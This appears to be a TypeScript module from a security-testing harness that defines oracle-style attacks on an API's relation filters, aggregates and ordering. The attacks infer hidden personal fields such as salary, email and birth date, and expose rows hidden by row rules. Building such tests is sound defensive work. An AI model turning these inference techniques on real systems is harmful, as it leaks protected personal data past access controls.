// Families that go through a relation: from badges, of which there is one for each number, to the people who may have them.
import { type Attacker, mapCalls, type Target, theOne } from '../attacker.ts'
import type { Family } from '../family.ts'
import type { Bit } from '../people.ts'
import { chunks, idsOf, isCandidate } from './matching.ts'
import { pagesOf, readRuns } from './orders.ts'
import { ifAnyFound } from './rows.ts'
import { guessByField, rowsOf } from './totals.ts'

/** The targets whose badge shows a person, under filters of the related rows. */
async function withPerson(
  attacker: Attacker,
  batch: readonly Target[],
  filters: Readonly<Record<string, string>> = {},
): Promise<ReadonlySet<number>> {
  const rows = await rowsOf(attacker, 'badges', { fields: 'id,person(id)', id: idsOf(batch), ...filters })
  return new Set(rows.flatMap(({ id, person }) => (person === null ? [] : [Number(id)])))
}

export const relatedFamilies: readonly Family[] = [
  {
    name: 'related rows under a filter on a hidden column',
    caller: 'ana',
    columns: ['birth_date', 'worth', 'postcode', 'website', 'email', 'salary'],
    weakness: 'filters of related rows meet stored values',
    guess: async (attacker, targets) => {
      const sides: readonly [Set<Target>, Set<Target>] = [new Set(), new Set()]
      const batches = [...Map.groupBy(targets, ({ column }) => column).values()].flatMap((own) => chunks(own))
      await mapCalls(batches, async (batch) => {
        for (const side of [0, 1] as const) {
          const [column, test] = isCandidate(batch, side)
          const ids = await withPerson(attacker, batch, { [`person.${column}`]: test })
          for (const target of batch) if (ids.has(target.id)) sides[side].add(target)
        }
      })
      return targets.map((target) => theOne(sides[0].has(target), sides[1].has(target)))
    },
  },
  {
    name: 'totals of related rows',
    caller: 'ana',
    columns: ['birth_date', 'worth', 'salary'],
    weakness: 'totals stand on stored values',
    guess: (attacker, targets) => guessByField(attacker, targets, 'badges', (column) => `person.${column}.min()`),
  },
  {
    name: 'order by a total of related rows',
    caller: 'ana',
    columns: ['birth_date', 'worth'],
    weakness: 'totals stand on stored values',
    guess: async (attacker, targets) => {
      const read = new Map<Target['column'], ReadonlyMap<number, Bit>>()
      for (const column of new Set(targets.map((target) => target.column))) {
        const order = await pagesOf(
          attacker,
          { fields: 'id', limit: '1000', order: `person.${column}.max().asc,id.asc` },
          'badges',
        )
        read.set(column, readRuns(attacker, column, order))
      }
      return targets.map(({ column, id }) => read.get(column)?.get(id) ?? null)
    },
  },
  {
    name: 'related rows that a row rule hides',
    caller: 'sam',
    columns: ['existence'],
    weakness: 'related rows forget their row rule',
    guess: async (attacker, targets) => {
      const found = await mapCalls(chunks(targets), (batch) => withPerson(attacker, batch))
      const ids = new Set(found.flatMap((one) => [...one]))
      return ifAnyFound(targets.map(({ id }) => (ids.has(id) ? 0 : null)))
    },
  },
  {
    name: 'how many related rows a row rule hides',
    caller: 'sam',
    columns: ['existence'],
    weakness: 'totals of related rows forget the row rule',
    guess: async (attacker, targets) => {
      const isThere = (_: Target, count: unknown): Bit | null => (Number(count) > 0 ? 0 : null)
      return ifAnyFound(await guessByField(attacker, targets, 'badges', () => 'person.count()', isThere))
    },
  },
]
